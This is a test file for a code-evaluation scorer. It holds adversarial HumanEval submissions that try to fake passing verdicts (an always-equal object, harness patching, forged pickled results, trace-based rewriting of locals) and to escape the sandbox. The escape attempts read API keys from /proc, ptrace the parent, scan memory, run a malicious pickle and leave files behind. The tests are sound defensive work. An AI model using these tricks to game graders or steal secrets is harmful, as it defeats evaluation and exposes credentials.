"""Attacks on the verdict and on the machine, through the real scorer (``evolcoder score``).

Each attack is a HumanEval sample whose function returns wrong values and tries to pass anyway, or
to steal what it must not see (the expected outputs, an API key, the scorer's memory, the project
tree), or to leave something behind. Each attack signals a successful theft by raising an
exception whose class name contains ``LEAKED`` (the score file keeps that name as the reason).
The canonical solutions of the same tasks are scored beside them and must still pass. The attacks
go around evalplus's ``reliability_guard`` (which only sets ``open``, ``os.chmod`` and friends to
None) with ``io.open`` and ``posix``: that guard is for verdict parity, not protection.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
from pathlib import Path

import pytest

from conftest import REPO, files_containing, score_argv, shared_data_dir, test_timings

DATA = shared_data_dir()
HE = DATA / "evalplus" / "HumanEvalPlus-v0.1.10.jsonl.gz"
pytestmark = pytest.mark.skipif(not HE.exists(), reason="shared data not available")
SRC = REPO / "src"
SANDBOX_UIDS = (61000, 62000)

_LEAK = """
import io, posix
def _leak(what):
    raise type("LEAKED_" + "".join(c if c.isalnum() else "_" for c in str(what))[:60], (Exception,), {})()
"""

# HumanEval/27 (flip_case) has this plus input; its expected output, split in two so that the
# sample's own constants never hold the whole string.
_NEEDLE_IN = "Flipping cases is so easy!"
_NEEDLE = _NEEDLE_IN.swapcase()
HONEST_HUNTERS = ("gc_hunt_expected", "memory_scan_expected")


def attacks(canary: str) -> dict[str, str]:
    """attack name -> program ({fn}: the task's entry point)."""
    h1, h2 = _NEEDLE[:9], _NEEDLE[9:]
    return {
        "frame_locals_expected": _LEAK
        + """
import io, posix
import sys
def {fn}(*a):
    f = sys._getframe(1)
    while f is not None:
        loc = f.f_locals
        for name in ("expected", "exp", "ref"):
            if name in loc:
                _leak("frame_" + name)
        f = f.f_back
    return None
""",
        "patch_harness_then_always_eq": """
import io, posix
import sys
for name, mod in list(sys.modules.items()):
    if name.startswith("evolcoder"):
        for attr in ("check_trusted", "to_plain", "_plain_base"):
            if hasattr(mod, attr):
                setattr(mod, attr, lambda x, *a, **k: x)
class AlwaysEq:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
def {fn}(*a):
    return AlwaysEq()
""",
        "forge_pipe_verdict": """
import io, posix
import os, pickle
for msg in ({"status": "pass"}, {"outputs": [], "stop": None},
            {"outputs": [pickle.dumps(True)] * 5000, "stop": None}):
    data = pickle.dumps(msg)
    for fd in range(0, 1024):
        try:
            os.write(fd, len(data).to_bytes(8, "little") + data)
        except OSError:
            pass
os._exit(0)
def {fn}(*a):
    return None
""",
        "forge_worker_protocol": """
import io, posix
import os, pickle
# what a worker answers its scorer: (index, JobResult) -- if this reached the scorer it would be trusted
class JobResult:
    pass
r = JobResult()
r.status, r.result, r.detail, r.wall_s, r.cause = "ok", {"status": "pass"}, "", 0.0, ""
for index in range(16):
    data = pickle.dumps((index, {"status": "ok", "result": {"status": "pass"}}))
    for fd in range(0, 1024):
        try:
            os.write(fd, len(data).to_bytes(8, "little") + data)
        except OSError:
            pass
def {fn}(*a):
    return None
""",
        "read_parent_environ_and_mem": _LEAK
        + """
import io, posix
import os
def _ancestors():
    pid = os.getpid()
    out = []
    for _ in range(12):
        try:
            with io.open(f"/proc/{pid}/status") as fh:
                pid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
        except OSError:
            break
        if pid <= 1:
            break
        out.append(pid)
    return out
def {fn}(*a):
    for pid in _ancestors() + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == os.getpid():
            continue
        try:
            with io.open(f"/proc/{pid}/environ", "rb") as fh:
                env = fh.read()
            if b"OPENAI_API_KEY" in env or b"sk-" in env:
                _leak(env[env.find(b"sk-"):][:40].decode(errors="replace"))
        except OSError:
            pass
        try:
            with io.open(f"/proc/{pid}/maps") as fh:
                start = int(fh.readline().split("-")[0], 16)
            with io.open(f"/proc/{pid}/mem", "rb") as fh:
                fh.seek(start)
                if fh.read(64):
                    _leak(f"mem_of_{pid}")
        except (OSError, ValueError, IndexError):
            pass
    for k, v in os.environ.items():
        if "sk-" in v or "KEY" in k or "TOKEN" in k:
            _leak(k + "=" + v)
    return None
""",
        "ctypes_ptrace_and_caps": _LEAK
        + """
import io, posix
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def {fn}(*a):
    ppid = os.getppid()
    if libc.ptrace(16, ppid, 0, 0) == 0:  # PTRACE_ATTACH
        _leak("ptrace_parent")
    if libc.setuid(0) == 0 and os.getuid() == 0 and os.path.exists("/proc/1/environ"):
        try:
            io.open("/proc/1/environ", "rb").read()
            _leak("root_again")
        except OSError:
            pass
    buf = ctypes.create_string_buffer(64)
    iov_l = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    iov_r = (ctypes.c_void_p * 2)(0x400000, 64)
    if libc.process_vm_readv(ppid, iov_l, 1, iov_r, 1, 0) > 0:
        _leak("process_vm_readv")
    # and scribble over our own memory: no effect outside this process
    ctypes.memset(ctypes.addressof(buf), 0x41, 64)
    return None
""",
        "gc_hunt_expected": _LEAK
        + f"""
import io, posix
import gc
_calls = [0]
def {{fn}}(*a):
    i = _calls[0]
    _calls[0] += 1
    found = False
    for obj in gc.get_objects():
        if isinstance(obj, (list, tuple)) and len(obj) > 3:
            try:
                found = found or any(isinstance(x, str) and x.startswith({h1!r}) and x[9:] == {h2!r} for x in obj)
            except Exception:
                pass
    if found:
        _leak("gc_expected")
    return a[0].swapcase()  # honest, so that it reaches the plus tests, whose expected outputs it hunts
""",
        "memory_scan_expected": _LEAK
        + f"""
import ctypes
def _scan():
    # the process's own memory, read directly (no /proc/self/mem: it is closed to a non-dumpable process)
    with io.open("/proc/self/maps") as fh:
        regions = [l.split() for l in fh]
    for r in regions:
        if not r[1].startswith("r") or (len(r) > 5 and r[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]")):
            continue
        if len(r) > 5 and r[5].startswith("/") and not r[5].endswith((".so", "python3.11", "python")) \\
                and ".so." not in r[5]:
            continue  # a mapped data file may be shorter than its mapping (SIGBUS)
        a, b = (int(x, 16) for x in r[0].split("-"))
        chunk = ctypes.string_at(a, b - a)
        pos = chunk.find({h1.encode()!r})
        while pos != -1:
            if chunk[pos + 9:pos + {len(_NEEDLE)}] == {h2.encode()!r}:
                _leak("expected_in_memory")
            pos = chunk.find({h1.encode()!r}, pos + 1)
_scan()
def {{fn}}(string):
    return string.swapcase()  # honest, so that it reaches the plus tests, whose expected outputs it hunts
""",
        "signal_handlers": """
import io, posix
import signal, os, pickle
for sig in (signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGVTALRM):
    try:
        signal.signal(sig, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def _forge(*a):
    data = pickle.dumps({"status": "pass"})
    for fd in range(3, 64):
        try:
            os.write(fd, len(data).to_bytes(8, "little") + data)
        except OSError:
            pass
    os._exit(0)
signal.signal(signal.SIGINT, _forge)
def {fn}(*a):
    while True:
        pass
""",
        "settrace_rewrites_locals": """
import io, posix
import sys, threading
def tracer(frame, event, arg):
    if event == "return":
        loc = frame.f_locals
        for k in ("exact_match", "ok", "passed"):
            if k in loc:
                loc[k] = True
    return tracer
sys.settrace(tracer)
sys.setprofile(lambda *a: None)
threading.settrace(tracer)
def {fn}(*a):
    sys.settrace(tracer)
    return None
""",
        "thread_outlives_and_mutates": """
import io, posix
import threading, time, os, pickle
_out = []
def _late():
    for _ in range(2000):
        _out.clear()
        _out.append(object())
        data = pickle.dumps({"status": "pass"})
        for fd in range(3, 32):
            try:
                os.write(fd, data)
            except OSError:
                pass
        time.sleep(0.001)
threading.Thread(target=_late, daemon=False).start()
def {fn}(*a):
    return _out
""",
        # a hand-made pickle that would run a shell command wherever it is loaded with plain pickle:
        # inside the result (read by the scorer) and as the whole result (read by the worker)
        "pickle_payload_in_outputs": f"""
import io, posix
import os, pickle
payload = b"cposix\\nsystem\\n(S'touch {canary}-scorer'\\ntR."
data = pickle.dumps({{"outputs": [payload] * 3, "stop": None}})
for fd in range(3, 64):
    try:
        os.write(fd, len(data).to_bytes(8, "little") + data)
    except OSError:
        pass
os._exit(0)
def {{fn}}(*a):
    return None
""",
        "pickle_payload_as_result": f"""
import io, posix
import os
data = b"cposix\\nsystem\\n(S'touch {canary}-worker'\\ntR."
for fd in range(3, 64):
    try:
        os.write(fd, len(data).to_bytes(8, "little") + data)
    except OSError:
        pass
os._exit(0)
def {{fn}}(*a):
    return None
""",
        "leave_files_and_read_project": _LEAK
        + f"""
import io, posix
import os
KEY = os.environ.get("OPENAI_API_KEY", "no-key")
for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", posix.getcwd(), os.path.expanduser("~"), {str(REPO)!r}):
    try:
        with io.open(os.path.join(d, "evolcoder-attack-leftover.txt"), "w") as fh:
            fh.write(KEY)
        posix.chmod(os.path.join(d, "evolcoder-attack-leftover.txt"), 0o666)
    except OSError:
        pass
for p in ({str(REPO / "pyproject.toml")!r}, {str(REPO / ".git" / "HEAD")!r}):
    try:
        io.open(p).read()
        _leak("project_tree")
    except OSError:
        pass
def {{fn}}(*a):
    return None
""",
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    from evolcoder.benchmarks import get_benchmark

    tmp = tmp_path_factory.mktemp("attacks")
    canary = tmp / "pwned"
    tasks = get_benchmark("humaneval").load_tasks(str(HE))
    by_id = {t["task_id"]: t for t in tasks}
    progs = attacks(str(canary))
    # the memory/gc hunts target flip_case, whose plus input holds the needle's source
    assert [_NEEDLE_IN] in by_id["HumanEval/27"]["plus_input"]
    order = ["HumanEval/27"] + [t["task_id"] for t in tasks if t["task_id"] != "HumanEval/27"]
    names, recs = {}, []
    hunters = HONEST_HUNTERS
    plain_order = iter(t for t in order if t != "HumanEval/27")
    for name, code in progs.items():
        tid = "HumanEval/27" if name in hunters else next(plain_order)
        names.setdefault(tid, []).append(name)
        recs.append({"task_id": tid, "solution": code.replace("{fn}", by_id[tid]["entry_point"])})
    for tid in names:
        recs.append({"task_id": tid, "solution": by_id[tid]["prompt"] + by_id[tid]["canonical_solution"]})
    pred = tmp / "attacks.jsonl"
    pred.write_text("".join(json.dumps(r) + "\n" for r in recs))
    key = f"sk-test-SECRET-{secrets.token_hex(8)}"
    out = tmp / "score.json"
    settings = {"jobs": 2, "timings": test_timings("humaneval", HE), "retries": 1, "reference_repeats": 1}
    env = dict(os.environ, PYTHONPATH=str(SRC), OPENAI_API_KEY=key)
    proc = subprocess.run(
        score_argv("humaneval", pred, HE, out, settings),
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=1200,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(out.read_text()), names, key, canary, proc, out


def test_every_attack_fails_and_every_canonical_passes(attacked):
    res, names, _, _, _, _ = attacked
    for tid, attack_names in names.items():
        entry = res["per_task"][tid]
        n = len(attack_names)
        assert entry["n"] == n + 1
        for j, name in enumerate(attack_names):
            if name in HONEST_HUNTERS:  # correct answers: they pass unless they found what they hunt
                assert entry["base"][j] == "pass" and entry["plus"][j] == "pass", (name, entry.get("reasons"))
                continue
            assert entry["base"][j] != "pass", f"{name} passed base ({tid})"
            if "plus" in entry:
                assert entry["plus"][j] != "pass", f"{name} passed plus ({tid})"
        assert entry["base"][n] == "pass" and entry["plus"][n] == "pass", f"canonical of {tid}"


def test_nothing_was_stolen(attacked):
    res, _names, key, _, proc, out = attacked
    text = out.read_text()
    assert "LEAKED" not in text, [
        r for e in res["per_task"].values() for r in (e.get("reasons") or {}).values() if "LEAKED" in json.dumps(r)
    ]
    assert key not in text and key not in proc.stdout and key not in proc.stderr


def test_a_pickled_payload_never_runs(attacked):
    res, names, _, canary, _, _ = attacked
    assert not Path(f"{canary}-scorer").exists() and not Path(f"{canary}-worker").exists()
    for attack in ("pickle_payload_in_outputs", "pickle_payload_as_result"):
        tid = next(t for t, n in names.items() if attack in n)
        assert "untrusted output type posix.system" in json.dumps(res["per_task"][tid]["reasons"]), attack


def test_signal_tricks_still_time_out(attacked):
    res, names, _, _, _, _ = attacked
    tid = next(t for t, n in names.items() if "signal_handlers" in n)
    assert res["per_task"][tid]["base"][0] == "timeout"
    assert res["timeout_causes"].get("cpu", 0) >= 1


def test_no_file_of_the_sandbox_uids_is_left_and_none_holds_the_key(attacked):
    _, _, key, _, _, _ = attacked
    lo, hi = SANDBOX_UIDS
    found = subprocess.run(
        [
            "find",
            "/",
            "-xdev",
            "(",
            "-path",
            "/proc",
            "-o",
            "-path",
            "/sys",
            ")",
            "-prune",
            "-o",
            "(",
            "-uid",
            f"+{lo - 1}",
            "-uid",
            f"-{hi}",
            ")",
            "-print",
        ],
        capture_output=True,
        text=True,
    ).stdout.split()
    for d in ("/dev/shm", "/run/lock"):  # other file systems
        found += subprocess.run(
            ["find", d, "-uid", f"+{lo - 1}", "-uid", f"-{hi}"], capture_output=True, text=True
        ).stdout.split()
    if os.geteuid() == 0:
        from evolcoder.sandbox.isolation import uid_claimed

        # a uid a live scorer holds (another test file's, running beside this one) is not a leftover
        assert [f for f in found if os.path.lexists(f) and not uid_claimed(os.lstat(f).st_uid)] == []
    leftovers = [
        p
        for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", str(REPO), os.path.expanduser("~"))
        for p in Path(d).glob("evolcoder-attack-leftover.txt")
    ]
    assert leftovers == []
    assert files_containing(key, ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]) == []


def test_isolation_is_recorded(attacked):
    res = attacked[0]
    iso = res["execution_env"]["isolation"]
    if os.geteuid() == 0:
        assert iso["mode"] == "root" and iso["private_tmp"] and iso["missing"] == []
        if iso.get("bwrap"):  # only what is bound in is there; the project tree is not
            assert iso["visible"] and not any(v.startswith(str(REPO)) for v in iso["visible"])
        else:
            assert str(REPO) in iso["hidden"]
